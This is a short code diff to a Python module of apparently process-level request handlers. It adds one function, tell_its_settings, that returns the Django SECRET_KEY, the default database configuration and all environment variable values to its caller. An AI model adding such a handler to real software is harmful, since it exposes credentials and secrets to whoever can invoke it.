@@ -5,11 +5,17 @@ import time
 from pathlib import Path
 from typing import Any
 
+from django.conf import settings
+
 Answer = tuple[Any, list[bytes]]
 
 
 def tell_its_process(_data: bytes) -> Answer:
     return os.getpid(), []
+
+
+def tell_its_settings(_data: bytes) -> Answer:
+    return [settings.SECRET_KEY, str(settings.DATABASES["default"]), *os.environ.values()], []
 
 
 def give_files_back(data: bytes) -> Answer:
